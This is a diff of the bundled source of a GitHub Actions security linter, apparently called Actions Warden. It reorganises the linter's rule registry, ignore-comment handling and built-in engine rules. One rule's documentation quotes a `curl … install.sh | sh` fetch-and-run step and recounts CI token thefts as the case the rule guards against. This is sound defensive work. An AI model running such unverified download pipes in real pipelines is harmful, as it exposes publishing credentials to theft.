     why: "A SHA-pinned action is immutable; what it downloads is not. In LiteLLM (2026, PYSEC-2026-2) the publishing job ran `curl …/main/install.sh | sh` and installed a scanner whose release had been replaced, which stole the PyPI credential. Codecov's bash uploader (2021) was altered at its download URL and exfiltrated CI secrets for two months. Astral calls this the gap no tool covers: download, then `sha256sum -c` against a pinned checksum.",
@@ -16397,6 +16499,7 @@ var useTrustedPublishing = {
   severity: "medium",
   confidence: "high",
   persona: "regular",
+  online: false,
   docs: {
     summary: "A job publishes to PyPI, npm, crates.io, RubyGems or NuGet with a stored token or password, though these registries accept short-lived OIDC credentials (Trusted Publishing).",
     why: "A stored publish token works from anywhere until someone revokes it. Nx s1ngularity (2025) and elementary-data (2026) lost `NPM_TOKEN` / PyPI passwords from injectable workflows; LiteLLM (2026, PYSEC-2026-2) had its PyPI credential stolen by a compromised scanner running in the publishing job; Ultralytics (2024) saw 8.3.45/46 published with a stolen token after the Trusted Publishing path was closed. With Trusted Publishing there is no token to steal: the registry trusts this repository, workflow and environment only for minutes.",
@@ -16456,21 +16559,6 @@ var useTrustedPublishing = {
   }
 };
 
-// server/src/rules/attack-path-rules.ts
-var ATTACK_PATH_RULES = [
-  untrustedCheckout,
-  artifactPoisoning,
-  artipacked,
-  cachePoisoning,
-  secretsInherit,
-  secretsOutsideEnv,
-  selfHostedRunner,
-  useTrustedPublishing,
-  unverifiedDownload,
-  adhocPackages,
-  unpinnedTools
-];
-
 // server/src/rules/index.ts
 var RULES = [
   dangerousTriggers,
@@ -16484,20 +16572,47 @@ var RULES = [
   aiAgentInjection,
   githubEnv,
   botConditions,
-  /* online (no-ops without a resolution snapshot): */
   refVersionMismatch,
   impostorCommit,
   staleActionRefs,
   refConfusion,
-  ...CATALOGUE_RULES,
-  ...ATTACK_PATH_RULES
+  unpinnedImages,
+  hardcodedContainerCredentials,
+  knownVulnerableActions,
+  archivedUses,
+  typosquatUses,
+  forbiddenUses,
+  dependabotCooldown,
+  dependabotExecution,
+  dependabotMissingActions,
+  unsoundCondition,
+  unsoundContains,
+  unsoundTernary,
+  obfuscation,
+  misfeature,
+  superfluousActions,
+  githubApp,
+  selfRepository,
+  concurrencyLimits,
+  anonymousDefinition,
+  untrustedCheckout,
+  artifactPoisoning,
+  artipacked,
+  cachePoisoning,
+  secretsInherit,
+  secretsOutsideEnv,
+  selfHostedRunner,
+  useTrustedPublishing,
+  unverifiedDownload,
+  adhocPackages,
+  unpinnedTools
 ];
 var byId = new Map(RULES.map((rule) => [rule.id, rule]));
 function ruleById(id) {
   return byId.get(id);
 }
 
-// server/src/config/inline-ignores.ts
+// server/src/suppressions/inline-ignores.ts
 var IGNORE_RE = /(?:^|\s)#\s*(warden|zizmor)\s*:\s*ignore\[([^\]]*)\]/g;
 var cache2 = new AttachedCache("inline-ignores", attachmentsOf);
 function ignoreComments(file) {
@@ -16525,9 +16640,7 @@ function ignoreComments(file) {
   cache2.set(file, found);
   return found;
 }
-var UNUSED_IGNORE_RULE = "unused-ignore";
-var UNUSED_IGNORE = { id: UNUSED_IGNORE_RULE, severity: "low", confidence: "high", persona: "pedantic" };
-var ENGINE_RULES = /* @__PURE__ */ new Set(["syntax-error", "internal-error", UNUSED_IGNORE_RULE]);
+var ENGINE_RULES = new Set(BUILT_IN_RULES.filter((rule) => rule.reportedOn === "actions-file").map((rule) => rule.id));
 var IgnoreTracker = class {
   constructor(file) {
     this.file = file;
@@ -16596,8 +16709,6 @@ function removeComment(file, comment) {
 }
 
 // server/src/engine.ts
-var SYNTAX_ERROR_RULE = "syntax-error";
-var INTERNAL_ERROR_RULE = "internal-error";
 var DEFAULT_ANALYSIS_OPTIONS = {
   persona: "regular",
   minSeverity: "informational",
@@ -16605,6 +16716,23 @@ var DEFAULT_ANALYSIS_OPTIONS = {
   disabledRules: /* @__PURE__ */ new Set()
 };
 var NO_CONFIG = Object.freeze({});
+function analysisViews(file, options) {
+  const given = options.views ?? {};
+  return {
+    online: given.online ?? onlineView(snapshotOf(file)),
+    workspace: given.workspace ?? NO_VIEWS.workspace,
+    dependencies: given.dependencies ?? NO_VIEWS.dependencies
+  };
+}
+var NOT_DECLARED = unavailable("not-declared");
+function declaredViews(rule, views) {
+  const reads = rule.reads ?? [];
+  return {
+    online: rule.online || reads.includes("online") ? views.online : NOT_DECLARED,
+    workspace: reads.includes("workspace") ? views.workspace : NOT_DECLARED,
+    dependencies: reads.includes("dependencies") ? views.dependencies : NOT_DECLARED
+  };
+}
 function analyze(file, options = DEFAULT_ANALYSIS_OPTIONS) {
   const steps = analysisSteps(file, options);
   for (let step = steps.next(); ; step = steps.next()) if (step.done) return step.value;
@@ -16629,37 +16757,33 @@ function* analysisSteps(file, options) {
   });
   for (const problem of file.problems) {
     if (problem.code === INTERNAL_ERROR_RULE) {
-      findings.push(toFinding({ id: INTERNAL_ERROR_RULE, severity: "low", confidence: "high", persona: "regular" }, { span: problem.span, message: problem.message }));
+      findings.push(toFinding(builtIn(INTERNAL_ERROR_RULE), { span: problem.span, message: problem.message }));
       continue;
     }
     findings.push(
-      toFinding(
-        { id: SYNTAX_ERROR_RULE, severity: "high", confidence: "high", persona: "regular" },
-        { span: problem.span, message: problem.code === "file-too-large" || problem.code === "too-deeply-nested" ? problem.message : `YAML: ${problem.message}` }
-      )
+      toFinding(builtIn(SYNTAX_ERROR_RULE), { span: problem.span, message: problem.code === "file-too-large" || problem.code === "too-deeply-nested" ? problem.message : `YAML: ${problem.message}` })
     );
   }
+  const views = analysisViews(file, options);
   let current = null;
   const context = {
     file,
     config: NO_CONFIG,
+    ...NO_VIEWS,
     report: (report) => {
       if (current) findings.push(toFinding(current, report));
     }
   };
   for (const rule of options.rules ?? RULES) {
     if (!rule.kinds.includes(file.kind) || options.disabledRules.has(rule.id)) continue;
+    if (rule.online && !views.online.available) continue;
     current = rule;
     context.config = options.ruleConfig?.[rule.id] ?? NO_CONFIG;
+    Object.assign(context, declaredViews(rule, views));
     try {
       rule.check(context);
     } catch (error) {
-      findings.push(
-        toFinding(
-          { id: INTERNAL_ERROR_RULE, severity: "low", confidence: "high", persona: "regular" },
-          { span: { start: 0, end: 0 }, message: `Rule ${rule.id} failed on this file: ${error instanceof Error ? error.message : String(error)}` }
-        )
-      );
+      findings.push(toFinding(builtIn(INTERNAL_ERROR_RULE), { span: { start: 0, end: 0 }, message: `Rule ${rule.id} failed on this file: ${error instanceof Error ? error.message : String(error)}` }));
     }
     current = null;
     yield;
@@ -16671,7 +16795,7 @@ function* analysisSteps(file, options) {
   if (!options.disabledRules.has(UNUSED_IGNORE_RULE)) {
     const ran = new Set((options.rules ?? RULES).filter((rule) => rule.kinds.includes(file.kind) && !options.disabledRules.has(rule.id)).map((rule) => rule.id));
     for (const report of unusedIgnores(file, ignores, ran)) {
-      const finding = toFinding(UNUSED_IGNORE, report);
+      const finding = toFinding(builtIn(UNUSED_IGNORE_RULE), report);
       const final = options.adjust ? options.adjust(finding) : finding;
       if (final && !ignores.suppresses(final)) kept.push(final);
     }
@@ -16679,7 +16803,7 @@ function* analysisSteps(file, options) {
   return kept.filter((finding) => isShown(finding, options)).sort(compareFindings);
 }
 function isShown(finding, options) {
-  if (finding.ruleId === SYNTAX_ERROR_RULE || finding.ruleId === INTERNAL_ERROR_RULE) return true;
+  if (builtInRule(finding.ruleId)?.alwaysShown) return true;
   return PERSONAS.indexOf(finding.persona) <= PERSONAS.indexOf(options.persona) && SEVERITIES.indexOf(finding.severity) >= SEVERITIES.indexOf(options.minSeverity) && CONFIDENCES.indexOf(finding.confidence) >= CONFIDENCES.indexOf(options.minConfidence);
 }
 function compareFindings(a, b) {
@@ -18007,7 +18131,7 @@ var Is;
   Is2.typedArray = typedArray;
 })(Is || (Is = {}));
 
-// server/src/config/ignore-fix.ts
+// server/src/suppressions/ignore-fix.ts
 var MULTI_LINE_SCALARS = new AttachedCache("ignore-fix-scalars", attachmentsOf);
 
 // shared/src/protocol.ts
@@ -18722,36 +18846,6 @@ function formatJson(results, options) {
 var import_node_crypto2 = require("node:crypto");
 
 // server/src/cli/rule-meta.ts
-var ENGINE_RULES2 = {
-  [SYNTAX_ERROR_RULE]: {
-    id: SYNTAX_ERROR_RULE,
-    title: "File is not valid YAML",
-    summary: "The file could not be parsed as YAML, so GitHub will reject it and nothing else in it was checked.",
-    severity: "high",
-    help: "Fix the YAML error at the reported position."
-  },
-  [INTERNAL_ERROR_RULE]: {
-    id: INTERNAL_ERROR_RULE,
-    title: "Actions Warden failed on this file",
-    summary: "A rule failed on this file; please report it with the file attached.",
-    severity: "low",
-    help: "This is a bug in Actions Warden, not in the file."
-  },
-  [UNUSED_IGNORE_RULE]: {
-    id: UNUSED_IGNORE_RULE,
-    title: "Ignore comment suppresses nothing",
-    summary: "A `# warden: ignore[...]` or `# zizmor: ignore[...]` comment names a rule that reports nothing on that line.",
-    severity: "low",
-    help: "Remove the stale rule id (or the whole comment), so that a future finding on that line is not hidden."
-  },
-  [CONFIG_ERROR_RULE]: {
-    id: CONFIG_ERROR_RULE,
-    title: "Problem in the configuration file",
-    summary: "A key of the configuration file has a wrong type or value, or is unknown; it was ignored.",
-    severity: "medium",
-    help: "See docs/configuration.md for the file format."
-  }
-};
 function ruleMeta(id) {
   const rule = ruleById(id);
   if (rule) {
@@ -18759,8 +18853,8 @@ function ruleMeta(id) {
 
 **Fix:** ${rule.docs.fix}` };
   }
-  const engine = ENGINE_RULES2[id];
-  if (engine) return { ...engine, helpUri: ruleDocsUrl(id) };
+  const builtIn2 = builtInRule(id);
+  if (builtIn2) return { id, title: builtIn2.title, summary: builtIn2.summary, severity: builtIn2.severity, helpUri: ruleDocsUrl(id), help: builtIn2.help };
   return { id, title: id, summary: id, severity: "medium", helpUri: ruleDocsUrl(id), help: "" };
 }
 
@@ -19706,8 +19800,8 @@ var GitHubResolver = class {
   }
   /** The `actions`-ecosystem advisories that affect `owner/repo` (one request per repository, cached; token only). */
   listAdvisories(owner, repo) {
-    const unavailable = this.advisoriesUnavailable;
-    if (unavailable) return Promise.resolve(fail2(this.offline ? "offline" : "invalid", `the advisory database was not queried: ${unavailable}`));
+    const unavailable2 = this.advisoriesUnavailable;
+    if (unavailable2) return Promise.resolve(fail2(this.offline ? "offline" : "invalid", `the advisory database was not queried: ${unavailable2}`));
     const key = `advisories|${this.hostKey}|${repoKey(owner, repo)}`;
     return this.cached(key, this.advisoryTtlMs, (http) => fetchAdvisories(http, owner, repo), owner, repo);
   }
